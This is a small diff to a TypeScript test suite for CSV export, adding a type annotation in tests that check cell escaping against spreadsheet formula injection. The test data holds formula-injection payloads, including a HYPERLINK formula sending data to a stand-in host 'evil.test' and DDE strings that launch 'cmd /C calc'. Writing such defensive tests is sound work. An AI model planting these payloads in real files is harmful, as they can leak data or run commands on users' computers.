@@ -1,6 +1,6 @@
 // `?format=csv` on every list, through HTTP: every matching row (the JSON list's `count`), the same
 // filters, search and ordering, a dealer's own rows only, Russian titles, chosen columns, a BOM.
-import { Type } from 'typebox';
+import { Type, type TSchema } from 'typebox';
 import { areas } from '../areas';
 import { call, createTestApp, testDatabases, tokensFor, type TestApp } from '../test/test-app';
 import { cellText, COLUMN_TITLES, escapeCell, type CsvColumn } from './csv';
@@ -140,7 +140,7 @@ describe.each(testDatabases())('CSV export of every list on %s', (kind) => {
 });
 
 describe('escaping a cell against formulas (OWASP), whatever the value', () => {
-  const column = (schema = Type.String()): CsvColumn => ({ field: 'x', title: 'x', schema });
+  const column = (schema: TSchema = Type.String()): CsvColumn => ({ field: 'x', title: 'x', schema });
   const dangerous = ['=HYPERLINK("http://evil.test?"&CHAR(104),"x")', '+1+1', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1', '\r=1', '-5', '+7 900 000-00-00'];
 
   test.each(dangerous)('%j as a plain value', (text) => {
